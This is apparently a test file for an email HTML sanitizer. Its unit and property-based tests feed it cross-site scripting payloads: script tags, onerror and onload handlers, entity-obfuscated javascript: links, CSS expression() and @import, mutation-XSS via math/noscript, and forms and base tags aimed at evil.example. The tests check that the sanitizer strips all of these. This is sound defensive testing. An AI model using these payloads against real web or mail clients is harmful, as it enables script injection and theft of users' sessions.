import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { sanitizeEmailHtml } from './email-html.ts';

/** The sanitized HTML of `html` (never null for these inputs: none nests deep). */
function clean(html: string): string {
  const out = sanitizeEmailHtml(html).html;
  if (out === null) throw new Error(`no HTML for ${html}`);
  return out;
}

/** The elements the sanitizer may emit, and the attributes each may carry. */
const ALLOWED: Record<string, string[]> = Object.fromEntries([
  ...'p br div span b strong i em u s small sub sup blockquote pre code ul ol li hr h1 h2 h3 h4 h5 h6 caption thead tbody tfoot tr'
    .split(' ')
    .map((t) => [t, ['style', 'align']]),
  ['font', ['style', 'color']],
  ['table', ['style', 'width', 'border', 'cellpadding', 'cellspacing', 'align']],
  ['td', ['style', 'colspan', 'rowspan', 'width', 'align', 'valign']],
  ['th', ['style', 'colspan', 'rowspan', 'width', 'align', 'valign']],
  ['a', ['style', 'href', 'title', 'target', 'rel']],
  ['img', ['style', 'src', 'alt', 'width', 'height']],
]);

/** A value as a browser reads it: character references decoded, whitespace and controls dropped. */
function asBrowserReads(v: string): string {
  return (
    v
      .replace(/&#x([0-9a-f]+);?/gi, (_, h: string) =>
        String.fromCodePoint(Number.parseInt(h, 16) % 0x110000),
      )
      .replace(/&#(\d+);?/g, (_, d: string) => String.fromCodePoint(Number(d) % 0x110000))
      .replace(/&quot;/g, '"')
      .replace(/&amp;/g, '&')
      .replace(/&lt;/g, '<')
      .replace(/&gt;/g, '>')
      // biome-ignore lint/suspicious/noControlCharactersInRegex: browsers skip them in URLs
      .replace(/[\s\u0000-\u001f\u007f]+/g, '')
      .toLowerCase()
  );
}

/**
 * What must hold of any output: every `<` starts a tag (text is escaped), every tag is an allowed
 * element with allowed, quoted attributes, and no attribute holds a handler or a script URL.
 * Returns the problems found.
 */
function unsafeParts(out: string): string[] {
  const problems: string[] = [];
  if (/<script/i.test(out)) problems.push('<script');
  const tags = out.match(/<[^>]*>/g) ?? [];
  if (out.split('<').length - 1 !== tags.length) problems.push('a < that starts no tag');
  for (const tag of tags) {
    const m = /^<\/?([a-z0-9]+)((?:\s[a-z-]+(?:="[^"<>]*")?)*)\s*\/?>$/.exec(tag);
    if (!m) {
      problems.push(`malformed ${tag}`);
      continue;
    }
    const allowed = ALLOWED[m[1]!];
    if (!allowed) problems.push(`element ${tag}`);
    for (const a of m[2]!.matchAll(/\s([a-z-]+)(?:="([^"]*)")?/g)) {
      const [name, value = ''] = [a[1]!, a[2]];
      if (/^on/.test(name) || !allowed?.includes(name)) problems.push(`attribute ${name} in ${tag}`);
      const v = asBrowserReads(value);
      if (/(java|vb)script:|data:text|expression\(|url\(|@import/.test(v)) problems.push(`value in ${tag}`);
      if (name === 'src' && !/^data:image\/(png|jpe?g|gif|webp);base64,/.test(v))
        problems.push(`src in ${tag}`);
    }
  }
  return problems;
}

describe('sanitizeEmailHtml', () => {
  it.each([
    ['a script element, with its code', '<p>hi</p><script>alert(1)</script><SCRIPT SRC=//x.js></SCRIPT>'],
    ['an onerror handler', '<img src=x onerror=alert(1)><b onmouseover="alert(1)">b</b>'],
    ['a javascript: link', '<a href="javascript:alert(1)">x</a><a href=" JaVaScRiPt:alert(1)">y</a>'],
    ['a javascript: link with an encoded tab', '<a href="jav&#x09;ascript:alert(1)">x</a>'],
    ['a javascript: link with entities and newlines', '<a href="&#106;ava&#x0A;script&colon;alert(1)">x</a>'],
    [
      'vbscript: and data: links',
      '<a href="vbscript:msgbox(1)">v</a><a href="data:text/html,<script>">d</a>',
    ],
    ['svg with onload', '<svg onload=alert(1)><script>alert(2)</script><text>t</text></svg>'],
    ['math with a style mutation', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
    ['noscript re-parsing', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
    [
      'style expressions and url()',
      '<div style="width:expression(alert(1));color:red">a</div><p style="background:url(javascript:alert(1))">b</p>',
    ],
    [
      'colour values that are not colours',
      '<p style="color:expression(alert(1))">a</p><p style="color: url(x)">b</p>',
    ],
    [
      'a style element with @import',
      '<style>@import url(http://evil.example/x.css); p{color:red}</style><p>c</p>',
    ],
    ['a base element', '<base href="http://evil.example/"><a href="x">x</a>'],
    ['a meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">after'],
    [
      'a form',
      '<form action="http://evil.example"><input name="password"><button formaction="javascript:x">Go</button></form>',
    ],
    [
      'iframe, object and embed',
      '<iframe src="javascript:alert(1)"></iframe><object data="x.swf"></object><embed src="x">',
    ],
    ['split tags', '<scr<script>ipt>alert(1)</scr</script>ipt><<script>script>'],
    [
      'attribute breakouts',
      '<p title="a&quot; onclick=&quot;alert(1)">t</p><a title=\'"><script>\' href=https://a.example>l</a>',
    ],
    ['an svg image', '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'],
    [
      'Outlook conditional comments',
      '<!--[if mso]><script>alert(1)</script><![endif]--><!--><img src=x onerror=alert(1)>-->',
    ],
  ])('removes %s', (_what, html) => {
    const out = clean(html);
    expect(unsafeParts(out), out).toEqual([]);
    expect(out).not.toMatch(
      /on[a-z]+=|javascript|vbscript|expression|<script|<style|<svg|<math|<base|<meta|<form|<input|<iframe|<object|<embed/i,
    );
  });

  it('keeps ordinary formatting, tables and safe styles', () => {
    const html =
      '<html><head><title>Newsletter</title></head><body><h1>Hello</h1><p align="center" style="color:#336699;text-align:center;font-weight:bold;position:fixed">Big <em>news</em> <u>today</u></p>' +
      '<table border="0" width="100%"><thead><tr><th colspan="2">Order</th></tr></thead><tbody><tr><td rowspan="2" valign="top" style="background-color:rgb(250, 250, 250)">#1042</td><td>2 items</td></tr></tbody></table>' +
      '<blockquote>quoted</blockquote><ul><li>one</li></ul><pre><code>x &lt; y</code></pre><font color="red" face="Comic Sans">f</font><hr></body></html>';
    expect(clean(html)).toBe(
      '<h1>Hello</h1><p align="center" style="color:#336699;text-align:center;font-weight:bold">Big <em>news</em> <u>today</u></p>' +
        '<table border="0" width="100%"><thead><tr><th colspan="2">Order</th></tr></thead><tbody><tr><td rowspan="2" valign="top" style="background-color:rgb(250, 250, 250)">#1042</td><td>2 items</td></tr></tbody></table>' +
        '<blockquote>quoted</blockquote><ul><li>one</li></ul><pre><code>x &lt; y</code></pre><font color="red">f</font><hr />',
    );
  });

  it('opens links in a new tab without referrer or opener, and drops hrefs of other schemes', () => {
    expect(
      clean(
        '<a href="https://shop.example/o/1" target="_self" rel="opener" title="Order">Order</a> <a href="mailto:help@shop.example">mail</a> <a href="/relative">r</a> <a href="ftp://x">f</a>',
      ),
    ).toBe(
      '<a title="Order" href="https://shop.example/o/1" target="_blank" rel="noopener noreferrer nofollow">Order</a> ' +
        '<a href="mailto:help@shop.example" target="_blank" rel="noopener noreferrer nofollow">mail</a> <a>r</a> <a>f</a>',
    );
  });

  it('drops remote images and counts them, a tracking pixel included; keeps data images; shows cid images as their alt', () => {
    const r = sanitizeEmailHtml(
      '<p>Hi<img src="https://t.example/open.gif?u=42" width="1" height="1" style="display:none"></p>' +
        '<img src="//cdn.example/logo.png" alt="Logo"><img src=" h\tttp://x.example/a.png"><img srcset="https://x.example/2.png 2x">' +
        '<img src="cid:logo@acme" alt="Acme logo"><img src="cid:spacer@acme"><img src="/local.png"><img src="x" alt="broken">' +
        '<img src="data:image/png;base64,iVBORw0KGgo=" alt="dot" width="2" onload="alert(1)"><p>end</p>',
    );
    expect(r.remoteImagesBlocked).toBe(4);
    expect(r.html).toBe(
      '<p>Hi</p><span style="font-style:italic">Acme logo</span>' +
        '<img alt="dot" width="2" src="data:image/png;base64,iVBORw0KGgo=" /><p>end</p>',
    );
  });

  it('leaves the next element intact after a dropped image', () => {
    expect(clean('<div><img src="https://t.example/p.gif"><p>after</p></div>')).toBe(
      '<div><p>after</p></div>',
    );
  });

  it('stops reading HTML nested deeper than browsers nest, at once (htmlparser2 slows down with depth)', () => {
    const started = performance.now();
    expect(sanitizeEmailHtml(`${'<b>'.repeat(170_000)}x`)).toEqual({ html: null, remoteImagesBlocked: 0 });
    expect(sanitizeEmailHtml(`${'<font color="red">'.repeat(513)}x`).html).toBeNull();
    expect(performance.now() - started).toBeLessThan(1_000);
    expect(clean(`${'<div>'.repeat(500)}x`)).toBe(`${'<div>'.repeat(500)}x${'</div>'.repeat(500)}`);
    // Elements closed, or closed by the next one (list items), do not add up.
    expect(clean(`<ul>${'<li>item'.repeat(2_000)}</ul>`)).toBe(`<ul>${'<li>item</li>'.repeat(2_000)}</ul>`);
    expect(clean('<p>a</p>'.repeat(2_000))).toBe('<p>a</p>'.repeat(2_000));
  });

  it('escapes text and keeps characters', () => {
    expect(clean('5 < 6 & "quotes" &amp; caf&eacute; &lt;script&gt;')).toBe(
      '5 &lt; 6 &amp; "quotes" &amp; café &lt;script&gt;',
    );
  });

  it('never emits a script, a handler or a script URL, whatever fragments it is given', () => {
    const fragments = fc.constantFrom(
      '<script>',
      '</script>',
      '<scr',
      'ipt>',
      '<img src=x onerror=alert(1)>',
      '<img src="https://t.example/p.gif">',
      '<svg onload=alert(1)>',
      '<math>',
      '<style>',
      '</style>',
      '<a href="javascript:alert(1)">',
      '<a href="jav&#x09;ascript:alert(1)">',
      '<a href=',
      'java',
      'script:',
      '&#x09;',
      '&#106;',
      ' onclick=',
      '"',
      "'",
      '=',
      '<',
      '>',
      '/',
      '<!--',
      '-->',
      '<![CDATA[',
      ']]>',
      '<p style="color:red;background:url(x)">',
      '<div style="width:expression(alert(1))">',
      '<noscript>',
      '<textarea>',
      '<iframe srcdoc="<script>alert(1)</script>">',
      '<table><tr><td>',
      '<b>',
      '</b>',
      'text',
    );
    fc.assert(
      fc.property(fc.array(fc.oneof(fragments, fc.string({ maxLength: 8 })), { maxLength: 30 }), (parts) => {
        const html = parts.join('');
        const out = clean(html);
        expect(unsafeParts(out), `${html}\n→ ${out}`).toEqual([]);
      }),
      { numRuns: 2_000 },
    );
  });
});
